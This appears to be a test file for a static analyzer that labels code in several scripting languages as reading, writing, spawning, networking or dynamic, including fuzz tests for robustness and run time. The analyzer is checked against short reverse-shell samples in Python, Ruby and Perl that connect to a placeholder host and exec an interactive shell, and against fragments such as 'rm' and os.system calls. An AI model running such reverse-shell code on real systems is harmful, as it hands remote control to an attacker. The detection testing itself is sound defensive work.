// What holds for every text in every language: a reading ends, never throws, and takes a number of steps that grows no
// faster than the text.
import fc from "fast-check";
import { describe, expect, test } from "vitest";
import type { Language } from "../../src/profile.ts";
import { readMongo } from "../../src/languages/mongo.ts";
import { readCode, readCounted } from "../../src/languages/read-code.ts";
import { readRedis } from "../../src/languages/redis.ts";
import { readSed } from "../../src/languages/sed.ts";
import { readSql } from "../../src/languages/sql.ts";

const languages: readonly Language[] = [
  "python",
  "javascript",
  "ruby",
  "perl",
  "php",
  "lua",
  "tcl",
  "awk",
  "r",
  "groovy",
];

// Pieces of which programs of these languages, and attacks on their readers, are made.
const pieces =
  `a b x os fs system exec eval print puts require import from def function sub class lambda if for in do end my local
  ( ) [ ] { } ( ) . , ; : :: -> => = == + - * / // % ** < > << >> & && | || ! ~ ? @ $ # \\ ' " \` ''' """ 'a' "b" \`c\` /re/ s/a/b/e m{a}
  q(a) %w[a] %q{a} <<A <<~A <<'A' A $x @y %z &f \${ #{ {$ f"{ \`\${ \u0000 1 2.5 0x1 -- ++ =begin =end =pod =cut __END__ /* */ // # --[[ ]] [[
  <?php ?> <!-- --> require('child_process') os.system __import__ 'rm x' .system( .map( \\u0065 | |& getline expr set proc |> <- \\(x)`
    .split(/\s+/)
    .concat(" ", "\n", "\t");

const soup = fc
  .array(fc.oneof(fc.constantFrom(...pieces), fc.string({ maxLength: 4 })), { maxLength: 60 })
  .map((parts) => parts.join(""));

describe("a reading", () => {
  test.for(languages)("of %s never throws, and is pure only when it found nothing but reads", (language) => {
    fc.assert(
      fc.property(soup, fc.boolean(), (text, holes_stay_inside) => {
        const { pure, findings } = readCode(language, text, { holes_stay_inside });
        expect(findings.length).toBeLessThanOrEqual(64);
        expect(pure).toBe(findings.every(({ kind }) => kind === "read"));
      }),
      { numRuns: 300 },
    );
  });

  test("of sed, SQL, Redis and MongoDB never throws", () => {
    fc.assert(
      fc.property(soup, (text) => {
        for (const read of [readSed, readSql, readRedis, readMongo])
          expect(read(text).findings.length).toBeLessThanOrEqual(64);
      }),
      { numRuns: 300 },
    );
  });

  const units = pieces.concat(
    [
      "a.",
      "a=a+a;",
      "a(",
      "(a)",
      "x=>",
      "->(x){",
      "not ",
      "import a\n",
      "class A ",
      "print|",
      "getline<",
      '$x["',
      "@{[",
      "${",
      "x=[x,x];",
    ],
    [
      "x={a:x};",
      "a.b.c.",
      "a?.b",
      "'a','b',",
      "s/[:",
      "[a ",
      "eval ",
      "if a ",
      'f"{',
      "a:",
      "puts ",
      "sub{",
      "qq{",
      "<<A\n",
      "def f(",
    ],
  );
  const size = 4096;
  const stepsOf = (language: Language, unit: string, length: number): number =>
    readCounted(language, unit.repeat(Math.floor(length / unit.length)), { holes_stay_inside: true }).steps;

  test.for(languages)("of 4 KiB of anything in %s takes at most 100 steps a character", (language) => {
    expect(units.filter((unit) => stepsOf(language, unit, size) > 100 * size)).toEqual([]);
  });

  test.for(languages)("of a text four times as long in %s takes about four times the steps", (language) => {
    expect(
      units.filter((unit) => stepsOf(language, unit, size) > 5 * stepsOf(language, unit, size / 4) + 4096),
    ).toEqual([]);
  });
});

describe("what is not known of a text", () => {
  test.for(languages)("makes a program of %s unreadable", (language) => {
    expect(readCode(language, "print \u0000").findings).toMatchObject([{ kind: "dynamic", decoded: false }]);
    expect(readCode(language, "print('\u0000')", { has_holes: true }).pure).toBe(false);
  });

  test("is data inside a string when it cannot get out of it", () => {
    const inside = { holes_stay_inside: true };
    expect(readCode("python", "print('\u0000')", inside).pure).toBe(true);
    expect(readCode("python", "import os; os.system('rm \u0000')", inside).findings).toMatchObject([
      { kind: "spawn-unknown" },
    ]);
    expect(readCode("python", "print(\u0000)", inside).findings).toMatchObject([{ kind: "dynamic" }]);
    expect(readCode("javascript", "console.log(`\u0000`)", inside).pure).toBe(true);
    expect(readCode("javascript", "require('\u0000')", inside).findings).toMatchObject([{ kind: "dynamic" }]);
    expect(readCode("awk", '{ print "\u0000" }', inside).pure).toBe(true);
  });
});

describe("a program that does more than can be named", () => {
  test("is summed up by a finding that is no milder", () => {
    const lines = (code: (at: number) => string): string => Array.from({ length: 100 }, (_, at) => code(at)).join("\n");
    const kinds = (code: string): readonly string[] =>
      readCode("python", `import os\n${code}`).findings.map(({ kind }) => kind);
    expect(kinds(lines((at) => `os.system('a${at}')`))).toContain("spawn-unknown");
    expect(kinds(lines((at) => `open('f${at}')`)).length).toBeLessThanOrEqual(64);
    expect(
      readCode(
        "python",
        lines((at) => `open('f${at}')`),
      ).findings,
    ).toContainEqual({ kind: "read", path: null, what: expect.any(String) });
    expect(
      readCode(
        "python",
        lines((at) => `open('f${at}', 'w')`),
      ).findings,
    ).toContainEqual({
      kind: "write",
      path: null,
      mode: "overwrite",
      what: expect.any(String),
    });
    const many = lines(
      (at) => `open('f${at}')\nopen('g${at}','w')\nos.system('c${at}')\nfoo${at}()\nos.remove('d${at}')`,
    );
    expect(kinds(many)).toEqual(expect.arrayContaining(["read", "write", "spawn-unknown", "unknown", "delete"]));
    expect(kinds(many).length).toBeLessThanOrEqual(64);
  });
});

describe("a shell that a network feeds", () => {
  test.for([
    ["python", "import socket,os\ns=socket.socket()\ns.connect(('h',1))\nos.execv('/bin/sh',['sh','-i'])"],
    ["ruby", "require 'socket'; c = TCPSocket.new('h', 1); exec '/bin/sh -i'"],
    ["perl", "use Socket; connect(S, $a); exec('/bin/bash')"],
  ] as const)("is dynamic in %s", ([language, text]) => {
    expect(readCode(language, text).findings).toContainEqual({
      kind: "dynamic",
      what: "a shell that a network feeds",
      decoded: false,
    });
  });

  test("is not any program beside a network", () => {
    const text = "import requests, subprocess\nsubprocess.run(['git', 'log'])\nrequests.get('http://x')";
    expect(
      readCode("python", text)
        .findings.map(({ kind }) => kind)
        .sort(),
    ).toEqual(["network", "spawn"]);
  });
});
